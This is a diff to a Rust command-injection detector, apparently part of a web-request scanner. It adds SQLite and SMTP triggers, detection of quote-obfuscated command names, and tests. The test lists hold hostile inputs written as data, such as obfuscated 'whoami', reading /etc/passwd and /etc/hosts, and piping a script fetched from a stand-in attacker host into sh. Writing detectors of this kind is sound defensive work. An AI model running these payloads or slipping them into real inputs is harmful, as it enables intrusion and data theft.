             gated("function", starts_word),
@@ -452,7 +557,33 @@ impl Check for Cmdi {
             gated(".import", sqlite_dot_command),
             gated(".load", sqlite_dot_command),
             gated(".sh", sqlite_dot_command),
+            gated(".archive", sqlite_dot_command),
+            gated(".backup", sqlite_dot_command),
+            gated(".clone", sqlite_dot_command),
+            gated(".dbinfo", sqlite_dot_command),
+            gated(".dump", sqlite_dot_command),
+            gated(".excel", sqlite_dot_command),
+            gated(".iotrace", sqlite_dot_command),
+            gated(".once", sqlite_dot_command),
+            gated(".open", sqlite_dot_command),
+            gated(".output", sqlite_dot_command),
+            gated(".read", sqlite_dot_command),
+            gated(".recover", sqlite_dot_command),
+            gated(".restore", sqlite_dot_command),
+            gated(".save", sqlite_dot_command),
+            gated(".schema", sqlite_dot_command),
+            gated(".tables", sqlite_dot_command),
+            lit("\nhelo"),
+            lit("\nehlo"),
+            lit("\nvrfy"),
+            lit("\nexpn"),
+            lit("\ndata"),
+            lit("\nquit"),
+            lit("\nrset"),
+            lit("\nnoop"),
             gated("-e", exec_option),
+            gated("${", substring_expansion),
+            lit("$'"),
             gated(">", redirection),
             gated("!", command_follows),
             gated("?", glob_component),
@@ -477,8 +608,17 @@ impl Check for Cmdi {
         // PERF: most values are one word (a key, an id, a code) and end here.
         let word_len = text[i..].iter().take(33).take_while(|&&c| c > b' ').count();
         let word = &text[i..i + word_len];
+        if word.iter().any(|&c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')) && hides_command(text, i) {
+            return true;
+        }
         if !text.get(i + word_len).is_some_and(|&c| c <= b' ') {
-            // One word: only a console's name wakes (checked on its first letter first).
+            // One word: a command glued to an expansion or a redirection (`cat${IFS}/etc/hosts`,
+            // `cat</etc/hosts`) or a console's name (checked on its first letter first).
+            let name = word.iter().take_while(|c| c.is_ascii_alphanumeric()).count();
+            if name > 1 && matches!(word.get(name), Some(b'$' | b'<' | b'>')) {
+                let mut buf = [0u8; 24];
+                return is_command(command_word(text, i, &mut buf));
+            }
             return matches!(text[i] | 0x20, b'a' | b'c') && is_automation_tool(word);
         }
         if is_automation_tool(word) {
@@ -510,6 +650,8 @@ impl Check for Cmdi {
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
         let folded = shell_fold(s.text);
         let hit = self.rules.best_either(s.text, Some(&folded));
+        let hidden = hidden_command(s.text.as_bytes()).map(|at| Hit::new(Family::Cmdi, High, 0.8, at, "command name hidden by shell quoting"));
+        let hit = stronger(hit, hidden);
         if !is_json_text(s) {
             return stronger(hit, self.strict_rules.best(s.text));
         }
@@ -554,6 +696,9 @@ mod tests {
     #[test]
     fn command_lists_are_sorted() {
         assert!(super::COMMANDS.windows(2).all(|w| w[0] < w[1]));
+        assert!(super::SQLITE_DOT_COMMANDS.windows(2).all(|w| w[0] < w[1]));
+        let triggers: Vec<String> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit.to_string()).collect();
+        assert!(super::SQLITE_DOT_COMMANDS.iter().all(|c| triggers.contains(&format!(".{c}"))), "each dot-command has its trigger");
     }
 
     #[test]
@@ -705,6 +850,75 @@ mod tests {
     }
 
     #[test]
+    fn separators_glued_to_a_command_and_command_names_hidden_by_quoting() {
+        for v in [
+            "x ;top",
+            ";top Monday report",
+            "a |id",
+            "&&uname",
+            "report.txt ;more",
+            "'c'url example.org",
+            "w'h'oami",
+            "x; c\\at notes",
+            "1|wh$@oami",
+            "$(c\"a\"t x)",
+            "ok\np\"in\"g host",
+            "cat${IFS}/etc/hosts",
+            "cat$IFS$9/etc/hosts",
+            "cat</etc/hosts",
+            "x; netstat -an",
+            "a|icacls C:\\Windows /grant x:F",
+            "1;.output /tmp/x",
+            "~+/notes",
+            "\r\nEHLO evil.example",
+            "\r\nA7 EXPUNGE",
+            "who$()ami",
+            "w``hoami",
+            "x;$(rev<<<'imaohw')",
+            "cat ${HOME:0:1}etc${HOME:0:1}hosts",
+            "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
+            "x; df -h",
+            "a|apt-get install -y nmap",
+            "\r\nDATA\r\n",
+            "\r\na2 select INBOX",
+            "\na3 fetch 1:* (FLAGS)",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form");
+        }
+        for v in [
+            "Bonjour ; top du matin",
+            "a; top of the list",
+            ";environment",
+            "I'd like a cat",
+            "O'Brien's cat",
+            "she said \"ls\" twice",
+            "'cat' is a word",
+            "it's 'top' secret",
+            "Rock ;-)",
+            "x ;topology",
+            "date>2020-01-01",
+            "price$5",
+            "file.open(x)",
+            "Use the .dump command",
+            "~+z",
+            "Hello ${name}, total ${order.total}",
+            "it's $'5'",
+            "a ;-) b",
+            "a \\n b",
+        ] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["| name | date | size |\n|---|---|---|", "|date|time|", "Steps:\nB2 examine the draft\nC3 select a reviewer", "Report\nData\nQuit the app\n"] {
+            assert!(!any_flag_in_json(v), "{v} in a JSON body");
+        }
+        for v in ["I'd", "don't", "we'd", "l's", "a\\b", "who'd", "cat's"] {
+            assert!(!super::hides_command(v.as_bytes(), 0), "{v}");
+        }
+        assert!(super::hides_command(b"c'a't", 0) && super::hides_command(b"p\\ing", 0) && super::hides_command(b"/bin/c''at", 0));
+    }
+
+    #[test]
     fn tool_command_lines_and_batch_conditionals_outside_json_text() {
         use crate::fields::Part;
         for v in ["ansible-playbook site.yml -i hosts", "chef-shell", "ansible-console", "cscli decisions delete --all", "/usr/bin/ansible-pull -U x"] {
@@ -736,10 +950,23 @@ mod tests {
             "## Install\n\n```sh\ncurl -fsSL https://get.example.com | sh\nnpm install && npm run build\n```",
             "Run `ls -la /var/log` then `tail -f /var/log/syslog | grep error`",
             "Check the distro with `cat /etc/os-release; uname -a` first",
+            "const fs = require('fs'); process.exit(0) when done; this.constructor is the class",
+            "the process.argv array holds the arguments",
         ] {
             assert!(!any_flag_in_json(snippet), "{snippet}");
         }
-        for v in ["function(){return this}()", "console.log(1)", "process.env"] {
+        for v in [
+            "function(){return this}()",
+            "console.log(1)",
+            "process.env",
+            "require('fs').readFileSync('/etc/hosts')",
+            "process.exit(1)",
+            "process.argv",
+            "this.constructor",
+            "vm.runInNewContext('x')",
+            "globalThis.process",
+            "global['process']",
+        ] {
             assert!(flags("attack.cmdi", v), "{v} in a URL");
             assert!(
                 flags_at("attack.cmdi", Part::Body, v),
@@ -760,6 +987,8 @@ mod tests {
             "`id`",
             "see `x`; cat /etc/passwd",
             "```\nwget http://evil.example/x.sh | sh",
+            "eval(atob('Y29uc29sZS5sb2coMSk='))",
+            "eval(Buffer.from(x, 'base64').toString())",
         ] {
             assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
         }
